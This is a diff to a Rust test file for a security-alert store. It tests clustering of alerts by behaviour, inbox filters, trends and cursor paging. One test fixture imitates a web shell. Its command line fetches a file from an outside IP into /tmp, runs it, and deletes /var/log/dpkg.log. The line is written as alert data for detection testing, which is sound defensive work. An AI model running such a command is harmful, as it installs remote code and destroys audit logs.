@@ -159,7 +159,7 @@ async fn ingest_is_idempotent_and_queries_filter(db: &TestDb) {
     );
     let _ = a;
 
-    // Clusters: rule + host + image.
+    // Clusters: rule + host + image + behaviour (`sh -c id` and `sh -c ls` are two).
     let page = store.clusters(ClusterQuery::default()).await.unwrap();
     let mut shape: Vec<(String, String, Option<String>, u64)> = page
         .clusters
@@ -177,36 +177,38 @@ async fn ingest_is_idempotent_and_queries_filter(db: &TestDb) {
     assert_eq!(
         shape,
         [
-            ("Shell".into(), "h1".into(), Some("nginx".into()), 3),
+            ("Shell".into(), "h1".into(), Some("nginx".into()), 1),
+            ("Shell".into(), "h1".into(), Some("nginx".into()), 2),
             ("Shell".into(), "h2".into(), None, 1),
             ("Write".into(), "h1".into(), Some("nginx".into()), 1),
         ]
     );
-    let k = page.clusters.iter().find(|k| k.count == 3).unwrap().clone();
+    // `sh -c id` from s1 and its copy from s2.
+    let k = page.clusters.iter().find(|k| k.count == 2).unwrap().clone();
     assert_eq!(k.first_seen_ns, 1_704_067_201_000_000_000);
-    assert_eq!(k.last_seen_ns, 1_704_067_202_000_000_000);
+    assert_eq!(k.last_seen_ns, 1_704_067_201_000_000_000);
     assert_eq!(store.cluster(k.id).await.unwrap().unwrap(), k);
     let mut cq = ClusterQuery::default();
     cq.rule = Some("Write".into());
     assert_eq!(store.clusters(cq).await.unwrap().clusters.len(), 1);
     let mut aq = AlertQuery::default();
     aq.cluster_id = Some(k.id);
-    assert_eq!(store.alerts(aq).await.unwrap().alerts.len(), 3);
-    // Trend: alerts at 1 s, 2 s (and the other sensor's copy at 1 s) in 1-second buckets.
+    assert_eq!(store.alerts(aq).await.unwrap().alerts.len(), 2);
+    // Trend: the alert at 1 s and the other sensor's copy, in 1-second buckets.
     let t0 = 1_704_067_200_000_000_000;
     assert_eq!(
         store
             .cluster_trend(k.id, t0, 1_000_000_000, 4)
             .await
             .unwrap(),
-        [0, 2, 1, 0]
+        [0, 2, 0, 0]
     );
     assert_eq!(
         store
-            .cluster_trend(k.id, t0 + 1_500_000_000, 1_000_000_000, 2)
+            .cluster_trend(k.id, t0 + 500_000_000, 1_000_000_000, 2)
             .await
             .unwrap(),
-        [1, 0]
+        [2, 0]
     );
     assert_eq!(
         store.cluster_trend(424242, t0, 1, 3).await.unwrap(),
@@ -616,4 +618,268 @@ async fn recent_alerts_move_into_the_indexed_table_and_stay_one_set() {
     let gone = store.expire_before(cutoff).await.unwrap();
     assert_eq!(gone.alerts, 18);
     assert_eq!((count("alerts"), count("alerts_recent")), (0, 0));
+}
+
+/// A deletion of `/var/log/dpkg.log` in the `shop` container on `web-1`: `shell` is a web
+/// shell's (`rm -f` under `sh -c` under httpd, no terminal), else an operator's (`rm` at a
+/// runtime exec's terminal). Both at second `t_s` of 2024-01-01.
+fn deletion(shell: bool, t_s: u64) -> NewAlert {
+    let (cmd, pcmd, tty, above) = if shell {
+        (
+            "rm -f /var/log/dpkg.log",
+            "sh -c curl -s -o /tmp/.update http://198.51.100.7/p && /tmp/.update; rm -f /var/log/dpkg.log",
+            0,
+            ("httpd", "/opt/httpd/bin/httpd"),
+        )
+    } else {
+        (
+            "rm /var/log/dpkg.log",
+            "sh -i",
+            34816,
+            ("runc", "/usr/bin/runc"),
+        )
+    };
+    let raw = json!({
+        "hostname": "web-1",
+        "output": format!("Log files were tampered (file=/var/log/dpkg.log command={cmd})"),
+        "output_fields": {
+            "container.id": "d70642b69783",
+            "container.image.repository": "shop",
+            "evt.type": "unlinkat",
+            "fd.name": "/var/log/dpkg.log",
+            "proc.cmdline": cmd,
+            "proc.exepath": "/usr/bin/rm",
+            "proc.name": "rm",
+            "proc.pname": "sh",
+            "user.name": "root",
+        },
+        "priority": "Warning",
+        "rule": "Clear Log Activities",
+        "source": "syscall",
+        "time": format!("2024-01-01T{:02}:{:02}:{:02}.000000000Z", t_s / 3600, t_s / 60 % 60, t_s % 60),
+    })
+    .to_string();
+    NewAlert::new(raw).with_context(json!({
+        "process": {"proc.tty": tty, "proc.sid": if shell { 7660 } else { 9 }, "proc.pcmdline": pcmd},
+        "lineage": [
+            {"level": 0, "pid": 20, "name": "rm"},
+            {"level": 1, "pid": 19, "name": "sh", "cmdline": pcmd},
+            {"level": 2, "pid": 18, "name": above.0, "exepath": above.1},
+        ],
+        "session": {"sid": if shell { 7660 } else { 9 }, "recent_starts": []},
+    }))
+}
+
+on_both!(
+    behaviour_clusters_and_the_inbox,
+    2,
+    behaviour_clusters_and_the_inbox
+);
+/// The cluster key holds the behaviour signature: an operator's deletion and a web shell's
+/// deletion of one file in one container are two clusters (each with its repeats). The
+/// inbox orders clusters by their latest alert, carries the latest alert (with context),
+/// the latest decision and hourly trend counts kept at ingest; every filter, pages by
+/// cursor, and a partial page under a small scan budget.
+async fn behaviour_clusters_and_the_inbox(db: &TestDb) {
+    let mut options = quell_store::Options::default();
+    options.merge_rows = 3;
+    options.scan_budget = 2;
+    let store = Store::open_with(&db.spec, options).await.unwrap();
+    // Operator at 00:10 and 02:10 and 02:20; web shell at 01:00 and 01:30.
+    let out = store
+        .ingest(
+            "s",
+            vec![
+                deletion(false, 600),
+                deletion(true, 3600),
+                deletion(true, 5400),
+                deletion(false, 7800),
+                deletion(false, 8400),
+            ],
+        )
+        .await
+        .unwrap();
+    assert_eq!(out.stored, 5);
+    let op = store.alert(out.ids[0]).await.unwrap().unwrap().cluster_id;
+    let shell = store.alert(out.ids[1]).await.unwrap().unwrap().cluster_id;
+    assert_ne!(op, shell, "two behaviours share a cluster");
+    assert_eq!(
+        store.alert(out.ids[4]).await.unwrap().unwrap().cluster_id,
+        op
+    );
+    assert_eq!(
+        store.alert(out.ids[2]).await.unwrap().unwrap().cluster_id,
+        shell
+    );
+    let (kop, kshell) = (
+        store.cluster(op).await.unwrap().unwrap(),
+        store.cluster(shell).await.unwrap().unwrap(),
+    );
+    assert_eq!((kop.count, kshell.count), (3, 2));
+    assert_eq!(
+        (kop.rule.as_str(), kop.hostname.as_str()),
+        (kshell.rule.as_str(), kshell.hostname.as_str())
+    );
+    assert_eq!(kop.container_image, kshell.container_image);
+    assert_eq!(kop.signature.len(), 12);
+    assert_ne!(kop.signature, kshell.signature);
+    // Another host, another rule, priority Error, in a namespace, at 03:00.
+    let other = json!({
+        "hostname": "db-1", "output": "x", "priority": "Error", "rule": "Write below etc",
+        "source": "syscall", "time": "2024-01-01T03:00:00Z",
+        "output_fields": {"proc.cmdline": "vi /etc/passwd", "k8s.ns.name": "payments",
+                          "fd.name": "/etc/passwd"},
+    })
+    .to_string();
+    let o = store.ingest("s", vec![NewAlert::new(other)]).await.unwrap();
+    let write = store.alert(o.ids[0]).await.unwrap().unwrap().cluster_id;
+
+    let t0 = 1_704_067_200_000_000_000u64;
+    let hour = 3_600_000_000_000u64;
+    let inbox = |f: &dyn Fn(&mut quell_store::InboxQuery)| {
+        let mut q = quell_store::InboxQuery::default();
+        // The trend's window: the 24 hours up to the end of 03:00-04:00.
+        q.trend_end_ns = Some(t0 + 3 * hour + 5);
+        f(&mut q);
+        let store = store.clone();
+        async move { store.inbox(q).await.unwrap() }
+    };
+    let ids =
+        |p: &quell_store::InboxPage| p.clusters.iter().map(|k| k.cluster.id).collect::<Vec<_>>();
+    let page = inbox(&|_| {}).await;
+    assert_eq!(ids(&page), [write, op, shell]);
+    assert!(!page.partial && page.next_cursor.is_none());
+    let k = &page.clusters[1];
+    assert_eq!(k.latest_alert_id, out.ids[4]);
+    let latest = k.latest.as_ref().unwrap();
+    assert_eq!(latest.id, out.ids[4]);
+    assert_eq!(latest.context.as_ref().unwrap()["session"]["sid"], 9);
+    assert_eq!(k.priority, "Warning");
+    assert_eq!(k.trend_start_ns, t0 + 4 * hour - 24 * hour);
+    let mut want = vec![0u64; 24];
+    want[20] = 1; // 00:10
+    want[22] = 2; // 02:10, 02:20
+    assert_eq!(k.trend, want);
+    let mut want = vec![0u64; 24];
+    want[21] = 2;
+    assert_eq!(page.clusters[2].trend, want);
+    assert_eq!(page.clusters[0].namespace.as_deref(), Some("payments"));
+    assert_eq!(page.clusters[0].priority, "Error");
+
+    // Filters.
+    assert_eq!(
+        ids(&inbox(&|q| q.priority = Some("error".into())).await),
+        [write]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.priority = Some("warning".into())).await).len(),
+        3
+    );
+    assert!(store
+        .inbox({
+            let mut q = quell_store::InboxQuery::default();
+            q.priority = Some("loud".into());
+            q
+        })
+        .await
+        .is_err());
+    assert_eq!(
+        ids(&inbox(&|q| q.host = Some("web-1".into())).await),
+        [op, shell]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.rule = Some("Write below etc".into())).await),
+        [write]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.image = Some("shop".into())).await),
+        [op, shell]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.namespace = Some("payments".into())).await),
+        [write]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.text = Some("below".into())).await),
+        [write]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.text = Some("sho".into())).await),
+        [op, shell]
+    );
+    // Last seen at or after 02:00; first seen before 00:30.
+    assert_eq!(
+        ids(&inbox(&|q| q.since_ns = Some(t0 + 2 * hour)).await),
+        [write, op]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.until_ns = Some(t0 + hour / 2)).await),
+        [op]
+    );
+    store
+        .decide(NewDecision::new(
+            Target::Cluster(op),
+            Verdict::Benign,
+            "ana",
+            "routine",
+        ))
+        .await
+        .unwrap();
+    assert_eq!(
+        ids(&inbox(&|q| q.decision = Some("benign".into())).await),
+        [op]
+    );
+    assert_eq!(
+        ids(&inbox(&|q| q.decision = Some("none".into())).await),
+        [write, shell]
+    );
+    let decided = inbox(&|q| q.decision = Some("benign".into())).await;
+    assert_eq!(
+        decided.clusters[0].cluster.decision.as_ref().unwrap().actor,
+        "ana"
+    );
+    // Pages of one, by cursor; unfiltered pages are never partial.
+    let mut cursor = None;
+    let mut walked = Vec::new();
+    loop {
+        let page = inbox(&|q| {
+            q.limit = Some(1);
+            q.cursor = cursor.clone();
+        })
+        .await;
+        assert!(!page.partial);
+        walked.extend(ids(&page));
+        match page.next_cursor {
+            Some(c) => cursor = Some(c),
+            None => break,
+        }
+    }
+    assert_eq!(walked, [write, op, shell]);
+    // The scan budget (2 clusters): a filter matching only the third is found on a
+    // partial page's continuation.
+    let p1 = inbox(&|q| q.text = Some("web-1".into())).await;
+    assert_eq!(ids(&p1), [op, shell]);
+    let p = inbox(&|q| q.decision = Some("real".into())).await;
+    assert!(p.clusters.is_empty());
+    let mut q = quell_store::InboxQuery::default();
+    q.rule = Some("Clear Log Activities".into());
+    q.limit = Some(1);
+    let page = store.inbox(q.clone()).await.unwrap();
+    // Two clusters read (write, op; the budget is at least a page and one): op matches,
+    // the budget is spent: partial.
+    assert_eq!((ids(&page), page.partial), (vec![op], true));
+    q.cursor = page.next_cursor;
+    let page = store.inbox(q).await.unwrap();
+    assert_eq!((ids(&page), page.partial), (vec![shell], false));
+    assert!(matches!(
+        store
+            .inbox({
+                let mut q = quell_store::InboxQuery::default();
+                q.cursor = Some("a1.2".into());
+                q
+            })
+            .await,
+        Err(Error::InvalidCursor)
+    ));
+    store.close().await.unwrap();
 }
